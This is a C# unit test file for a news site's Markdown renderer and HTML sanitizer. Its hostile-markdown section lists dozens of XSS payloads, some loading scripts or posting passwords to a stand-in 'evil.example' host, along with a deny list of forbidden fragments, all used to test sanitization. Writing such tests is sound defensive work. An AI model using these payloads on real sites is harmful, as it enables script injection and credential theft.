using System.Text.RegularExpressions;
using Newsroom.Public.Rendering;

namespace Newsroom.Tests.Unit;

public class when_rendering_article_markdown
{
    [Fact]
    public void headings_render_and_a_top_level_heading_gives_way_to_the_headline()
    {
        var html = ArticleHtml.Render("# Top\n\n## Section\n\n### Detail");

        html.ShouldBe("<h2>Top</h2>\n<h2>Section</h2>\n<h3>Detail</h3>");
    }

    [Fact]
    public void emphasis_renders() =>
        ArticleHtml.Render("*soft* **strong** ~~struck~~ H~2~O x^2^")
            .ShouldBe("<p><em>soft</em> <strong>strong</strong> <del>struck</del> H<sub>2</sub>O x<sup>2</sup></p>");

    [Fact]
    public void lists_render()
    {
        var html = ArticleHtml.Render("- one\n- two\n\n1. first\n2. second");

        html.ShouldContain("<ul>\n<li>one</li>\n<li>two</li>\n</ul>");
        html.ShouldContain("<ol>\n<li>first</li>\n<li>second</li>\n</ol>");
    }

    [Fact]
    public void paragraphs_and_quotes_render() =>
        ArticleHtml.Render("First paragraph.\n\nSecond paragraph.\n\n> Quoted.")
            .ShouldBe("<p>First paragraph.</p>\n<p>Second paragraph.</p>\n<blockquote>\n<p>Quoted.</p>\n</blockquote>");

    [Fact]
    public void a_safe_link_keeps_its_href_and_gets_rel_nofollow() =>
        ArticleHtml.Render("[the report](https://example.org/report?a=1&b=2 \"Report\")")
            .ShouldBe("<p><a href=\"https://example.org/report?a=1&amp;b=2\" title=\"Report\" rel=\"nofollow noopener noreferrer\">the report</a></p>");

    [Fact]
    public void bare_addresses_become_links() =>
        ArticleHtml.Render("See www.example.org or write to <mailto:desk@example.org>.")
            .ShouldBe("<p>See <a href=\"http://www.example.org\" rel=\"nofollow noopener noreferrer\">www.example.org</a> " +
                      "or write to <a href=\"mailto:desk@example.org\" rel=\"nofollow noopener noreferrer\">mailto:desk@example.org</a>.</p>");

    [Fact]
    public void pipe_tables_render_without_their_inline_alignment_style()
    {
        var html = ArticleHtml.Render("| city | people |\n|---|--:|\n| Hà Nội | 8 m |");

        html.ShouldContain("<th>city</th>");
        html.ShouldContain("<td>Hà Nội</td>");
        html.ShouldContain("<td>8 m</td>");
        html.ShouldNotContain("style");
    }

    [Fact]
    public void code_is_escaped_not_interpreted() =>
        ArticleHtml.Render("```\n<b>not bold</b>\n```").ShouldBe("<pre><code>&lt;b&gt;not bold&lt;/b&gt;\n</code></pre>");

    [Theory]
    [InlineData(null)]
    [InlineData("")]
    [InlineData("   \n\t ")]
    public void nothing_renders_as_nothing(string? markdown)
    {
        ArticleHtml.Render(markdown).ShouldBe("");
        ArticleHtml.Sanitize(markdown).ShouldBe("");
    }

    [Fact]
    public void the_output_has_no_surrounding_whitespace()
    {
        var html = ArticleHtml.Render("\n\n  Text.  \n\n");

        html.ShouldBe(html.Trim());
        html.ShouldBe("<p>Text.</p>");
    }
}

public class when_rendering_text_in_any_script
{
    [Fact]
    public void diacritics_and_curly_quotes_survive() =>
        ArticleHtml.Render("Lý Hồng Trung said “we will return” and ‘soon’ — 北京, Москва, مرحبا")
            .ShouldBe("<p>Lý Hồng Trung said “we will return” and ‘soon’ — 北京, Москва, مرحبا</p>");

    [Fact]
    public void markup_characters_in_text_are_escaped_once() =>
        ArticleHtml.Render("AT&T rose 5 < 6 points").ShouldBe("<p>AT&amp;T rose 5 &lt; 6 points</p>");
}

public class when_sanitizing_wire_html
{
    [Fact]
    public void wrapper_elements_are_unwrapped_and_their_words_kept() =>
        ArticleHtml.Sanitize("<div class=\"story\"><section><p>Wire <span lang=\"en\">copy</span> text.</p></section></div>")
            .ShouldBe("<p>Wire copy text.</p>");

    [Fact]
    public void a_wire_h1_becomes_h2() =>
        ArticleHtml.Sanitize("<h1 id=\"top\">Wire headline</h1><p>Body.</p>").ShouldBe("<h2>Wire headline</h2><p>Body.</p>");

    [Fact]
    public void class_id_and_target_are_stripped_but_a_relative_link_stays() =>
        ArticleHtml.Sanitize("<a href=\"/public/articles/other\" class=\"x\" id=\"y\" target=\"_blank\">other</a>")
            .ShouldBe("<a href=\"/public/articles/other\" rel=\"nofollow noopener noreferrer\">other</a>");

    [Fact]
    public void a_rel_from_the_wire_is_replaced_by_ours() =>
        ArticleHtml.Sanitize("<a href=\"https://example.org\" rel=\"opener\">x</a>")
            .ShouldBe("<a href=\"https://example.org\" rel=\"nofollow noopener noreferrer\">x</a>");

    [Fact]
    public void figures_images_and_table_spans_keep_their_allowed_attributes() =>
        ArticleHtml.Sanitize(
                "<figure><img src=\"https://img.example/a.jpg\" alt=\"Pyongyang\" title=\"t\" width=\"10\" loading=\"lazy\">" +
                "<figcaption>Caption</figcaption></figure><table><tr><td colspan=\"2\" rowspan=\"3\" align=\"left\">c</td></tr></table>")
            .ShouldBe(
                "<figure><img src=\"https://img.example/a.jpg\" alt=\"Pyongyang\" title=\"t\"><figcaption>Caption</figcaption></figure>" +
                "<table><tbody><tr><td colspan=\"2\" rowspan=\"3\">c</td></tr></tbody></table>");

    [Fact]
    public void concurrent_callers_get_the_same_answer_as_one_caller()
    {
        var input = "<div><p onclick=\"x()\">Para <a href=\"https://example.org\">link</a></p><script>alert(1)</script></div>";
        var expected = ArticleHtml.Sanitize(input);

        var results = new string[2000];
        Parallel.For(0, results.Length, i => results[i] = i % 2 == 0 ? ArticleHtml.Sanitize(input) : ArticleHtml.Render(input));

        expected.ShouldBe("<p>Para <a href=\"https://example.org\" rel=\"nofollow noopener noreferrer\">link</a></p>");
        results.ShouldAllBe(r => r == expected);
    }
}

public class when_rendering_hostile_markdown
{
    // Markdown syntax is only Markdown to Render; to Sanitize it is harmless text.
    public static TheoryData<string> MarkdownAttacks => new()
    {
        "[x](javascript:alert(1))",
        "[x](JAVASCRIPT:alert(1) \"t\")",
        "![x](javascript:alert(1))",
        "[x](vbscript:msgbox(1))",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[x][ref]\n\n[ref]: javascript:alert(1)",
    };

    public static TheoryData<string> HtmlAttacks => new()
    {
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)\">x</a>",
        "<a href=\" \tjavascript:alert(1)\">x</a>",
        "<a href=\"java&#09;script:alert(1)\">x</a>",
        "<iframe src=\"https://evil.example/\">framed</iframe>",
        "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
        "<svg onload=alert(1)>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<div style=\"background:url(javascript:alert(1))\">x</div>",
        "<p style=\"position:fixed;top:0\">covering the page</p>",
        "<style>body{display:none}</style>",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<object data=\"https://evil.example/x.swf\"></object>",
        "<embed src=\"https://evil.example/x.swf\">",
        "<form action=\"https://evil.example/steal\"><input name=\"password\"><button>Go</button></form>",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
        "<base href=\"https://evil.example/\">",
        "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<p onclick=\"alert(1)\">click me</p>",
        "<a href=\"https://example.org\" onmouseover=\"alert(1)\">x</a>",
        "<details open ontoggle=alert(1)>x</details>",
        "<!-- <script>alert(1)</script> -->",
        "<!--><script>alert(1)</script>-->",
        "<template><script>alert(1)</script></template>",
        "<textarea><script>alert(1)</script></textarea>",
        "<video><source onerror=\"alert(1)\"></video>",
        "text\n\n<script>\nalert(1)\n</script>\n\nmore text",
    };

    private static readonly string[] Forbidden =
    [
        "<script", "javascript:", "vbscript:", "data:", "style=", "<style", "<iframe", "srcdoc", "<object", "<embed",
        "<form", "<input", "<button", "<textarea", "<meta", "<base", "<link", "<svg", "<math", "<mglyph", "<template",
        "<noscript", "<video", "<source", "<!--", "xlink", "alert(", "msgbox"
    ];

    private static readonly Regex EventHandlerAttribute = new(@"\son\w+\s*=", RegexOptions.IgnoreCase);

    [Theory]
    [MemberData(nameof(MarkdownAttacks))]
    [MemberData(nameof(HtmlAttacks))]
    public void nothing_dangerous_survives_rendering(string hostile) => ShouldBeHarmless(ArticleHtml.Render(hostile));

    [Theory]
    [MemberData(nameof(HtmlAttacks))]
    public void nothing_dangerous_survives_sanitizing(string hostile) => ShouldBeHarmless(ArticleHtml.Sanitize(hostile));

    [Fact]
    public void no_script_survives_even_as_text() =>
        ArticleHtml.Render("Before\n\n<script>alert(1)</script>\n\nAfter").ShouldBe("<p>Before</p>\n\n<p>After</p>");

    [Fact]
    public void a_javascript_link_keeps_its_text_but_loses_its_href() =>
        ArticleHtml.Render("[click](javascript:alert(1))").ShouldBe("<p><a>click</a></p>");

    [Fact]
    public void a_javascript_autolink_is_shown_as_text_but_cannot_be_followed() =>
        ArticleHtml.Render("<javascript:alert(1)>").ShouldBe("<p><a>javascript:alert(1)</a></p>");

    [Fact]
    public void an_event_handler_on_an_allowed_tag_is_dropped_and_the_tag_kept() =>
        ArticleHtml.Render("<p onclick=\"alert(1)\">click me</p>").ShouldBe("<p>click me</p>");

    [Fact]
    public void an_image_keeps_a_safe_source_and_loses_a_data_one()
    {
        ArticleHtml.Sanitize("<img src=\"https://img.example/a.png\" onerror=\"alert(1)\">").ShouldBe("<img src=\"https://img.example/a.png\">");
        ArticleHtml.Sanitize("<img src=\"data:image/png;base64,AAAA\">").ShouldBe("<img>");
    }

    private static void ShouldBeHarmless(string html)
    {
        foreach (var fragment in Forbidden)
            html.ShouldNotContain(fragment, Case.Insensitive, $"'{fragment}' survived in: {html}");
        EventHandlerAttribute.IsMatch(html).ShouldBeFalse($"an event handler survived in: {html}");
    }
}
